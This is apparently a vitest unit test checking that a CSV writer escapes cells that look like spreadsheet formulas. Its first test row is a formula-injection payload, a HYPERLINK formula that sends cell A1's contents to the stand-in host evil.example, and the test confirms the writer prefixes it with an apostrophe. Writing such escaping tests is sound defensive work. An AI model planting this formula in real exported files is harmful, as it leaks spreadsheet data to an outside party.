import { describe, expect, it } from 'vitest';
import { toCsv } from './csv-write.js';

describe('the coding sample CSV', () => {
  it("uses the shared cell writer: a sentence that starts like a formula gets a leading '", () => {
    const csv = toCsv(['item', 'sentence'], [{ item: 1, sentence: '=HYPERLINK("http://evil.example/?leak="&A1,"click")' }, { item: 2, sentence: 'Die Lage, sagte er, sei ruhig.' }]);
    expect(csv).toBe(`item,sentence\r\n1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"\r\n2,"Die Lage, sagte er, sei ruhig."\r\n`);
  });
});
